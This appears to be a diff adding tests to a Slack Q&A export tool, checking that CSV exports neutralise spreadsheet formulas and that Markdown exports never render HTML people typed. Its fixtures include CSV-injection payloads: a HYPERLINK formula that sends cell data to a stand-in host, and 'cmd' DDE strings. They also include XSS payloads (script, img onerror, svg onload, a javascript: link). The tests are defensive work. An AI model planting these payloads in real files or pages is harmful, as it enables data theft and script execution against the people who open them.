@@ -3,13 +3,19 @@
 from __future__ import annotations
 
 import csv
+import html
 import io
 import json
+import re
 from datetime import UTC, datetime
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
-from core import asking, export
+from core import asking, export, importing
+from fakeslack.sender import slack_escape
 from storage.db import session_scope
 from tests.public import public_channels
 
@@ -104,7 +110,7 @@ def test_csv_has_a_row_per_answer_and_one_for_a_question_without(engine, knowled
 
 def test_markdown_reads_as_a_faq(engine, knowledge):
     _, text = _export(engine, "markdown")
-    assert "## Where is the <VPN> guide? See the wiki" in text
+    assert "## Where is the &lt;VPN> guide? See the wiki" in text  # shown as <VPN>, never a tag
     assert "> Line one\n> Line two & more" in text
     assert "_No answers yet._" in text and "deleted soon" not in text
 
@@ -156,3 +162,148 @@ def test_anonymous_askers_stay_anonymous_and_accepted_answers_topics_and_details
     for fmt in ("csv", "markdown"):
         assert "U0SHY" not in _export(engine, fmt)[1]
     assert "anonymously" in _export(engine, "markdown")[1] and "(accepted)" in _export(engine, "markdown")[1]
+
+
+# -- files opened by spreadsheets and wikis: what people wrote never runs there ----------------
+
+HOSTILE = [
+    '=HYPERLINK("https://evil.example.com/?d="&A1, "Click for the answer")',
+    "+1 agreed, see cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1 after blanks",
+    "\u3000=1+1 after an ideographic space",
+    "\uff1d1+1 (full-width equals)",
+    "\uff0b1 \uff0d1 \uff20A1 (full-width plus, minus, at)",
+    "'=1+1 already quoted",
+    "''=1+1 quoted twice",
+    "'tis a plain quote",
+    "Plain text, 2 + 2 = 4, me@example.com",
+]
+
+
+FORMULA = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def _would_run(cell: str) -> bool:
+    """A spreadsheet would read it as a formula (OWASP "CSV Injection", with full-width forms and
+    leading blanks), or it is a `'` before such a cell."""
+    if cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in FORMULA:
+        return True
+    return cell[:1] == "'" and _would_run(cell[1:])
+
+
+def _read_cell(cell: str) -> str:
+    """What a reader of the CSV does to get the text back (the README's rule): take the first `'`
+    off a cell whose rest a spreadsheet would run, or that is another such quote."""
+    return cell[1:] if cell[:1] == "'" and _would_run(cell[1:]) else cell
+
+
+def _hostile_knowledge(engine):
+    with session_scope(engine) as s:
+        report = importing.import_jsonl(
+            s,
+            team_id=TEAM,
+            lines=[
+                json.dumps(
+                    {
+                        "id": f"h{n}",
+                        "text": f"Question {n}: {text}",
+                        "details": text,
+                        "answers": [{"text": text, "author": "U0HELPER"}],
+                        "permalink": '=HYPERLINK("https://evil.example.com")' if n == 0 else None,
+                    }
+                )
+                for n, text in enumerate(HOSTILE)
+            ],
+        )
+        assert report.problems == []
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(engine):
+    _hostile_knowledge(engine)
+    _, text = _export(engine, "csv")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    for row in rows:
+        for name, cell in row.items():
+            assert not _would_run(cell) or cell.startswith("'"), (name, cell)
+            assert not cell.lstrip().startswith(FORMULA) and not cell.startswith(("\t", "\r")), (name, cell)
+    answers = [row["answer"] for row in rows]
+    assert answers[0] == "'" + HOSTILE[0].strip()
+    assert answers[-1] == HOSTILE[-1]  # ordinary text as it was
+    assert rows[0]["permalink"] == '\'=HYPERLINK("https://evil.example.com")'
+
+
+def test_a_csv_export_reads_back_as_the_text_the_jsonl_export_and_import_keep(engine):
+    _hostile_knowledge(engine)
+    _, jsonl = _export(engine, "jsonl")
+    records = [json.loads(line) for line in jsonl.splitlines()]
+    _, text = _export(engine, "csv")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [_read_cell(r["answer"]) for r in rows] == [r["answers"][0]["text"] for r in records]
+    assert [_read_cell(r["details"]) for r in rows] == [r["details"] for r in records]
+    assert [r["details"] for r in records] == [t.strip() for t in HOSTILE]  # import strips, nothing more
+    # And the JSON Lines export, which `knowhow import` reads, comes back the same from another workspace.
+    with session_scope(engine) as s:
+        assert importing.import_jsonl(s, team_id="T0OTHER", lines=jsonl.splitlines()).imported == len(HOSTILE)
+    _, again = _export(engine, "jsonl", team="T0OTHER")
+    assert [{**json.loads(line), "team_id": TEAM} for line in again.splitlines()] == records
+
+
+@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=12))
+def test_formula_safe_never_leaves_a_formula_and_a_reader_gets_the_text_back(text):
+    cell = export.formula_safe(text)
+    assert not cell.lstrip().startswith(FORMULA) and not cell.startswith(("\t", "\r"))
+    assert _read_cell(cell) == text
+
+
+def _html_tokens(markdown: str):
+    tokens = MarkdownIt("commonmark").parse(markdown)
+    found = []
+    for token in tokens:
+        for t in [token, *(token.children or [])]:
+            if t.type in ("html_block", "html_inline") or (t.type == "link_open" and t.markup == "autolink"):
+                found.append(t.content or t.attrs)
+    return found
+
+
+def test_markdown_shows_html_people_typed_as_text_and_never_runs_it(engine):
+    with session_scope(engine) as s:
+        asked = asking.ask_question(
+            s,
+            team_id=TEAM,
+            asker_id="U0ASKER",
+            # As Slack sends what the person typed: `&`, `<` and `>` as entities.
+            text=slack_escape("Why does <script>alert(1)</script> show up in Q&A?"),
+            details=slack_escape('<img src=x onerror="alert(1)"> and <!-- a comment --> and <https://evil.example>'),
+            qa_channel_id=QA,
+            request_id="html",
+        )
+        asking.mark_posted(s, team_id=TEAM, question_id=asked.question_id, channel_id=QA, message_ts="1700000007.1")
+        asking.record_permalink(s, team_id=TEAM, question_id=asked.question_id, permalink="javascript:alert(1)")
+        asking.record_reply(
+            s,
+            team_id=TEAM,
+            channel_id=QA,
+            thread_ts="1700000007.1",
+            message_ts="1700000008.1",
+            author_id="U0HELPER",
+            text=slack_escape(
+                "Escape it: write &lt;b&gt; for <b>, and a < b && c > d stays.\n</blockquote><svg/onload=alert(1)>"
+            ),
+            at=datetime.fromtimestamp(1700000008, UTC),
+        )
+    _, text = _export(engine, "markdown")
+    assert _html_tokens(text) == []
+    assert "javascript:" not in text
+    rendered = MarkdownIt("commonmark").render(text)
+    for tag in ("<script", "<img", "<svg", "<!--", "</blockquote><svg"):
+        assert tag not in rendered.replace("<blockquote>", "").replace("</blockquote>\n", "")
+    # Readable as the person typed it, once rendered (and as plain text where nothing was escaped).
+    shown = html.unescape(re.sub(r"<[^>]+>", "", rendered))
+    assert "Why does <script>alert(1)</script> show up in Q&A?" in shown
+    assert '<img src=x onerror="alert(1)"> and <!-- a comment --> and <https://evil.example>' in shown
+    assert "write &lt;b&gt; for <b>, and a < b && c > d stays." in shown
+    assert "a < b && c > d stays." in text and "in Q&A?" in text
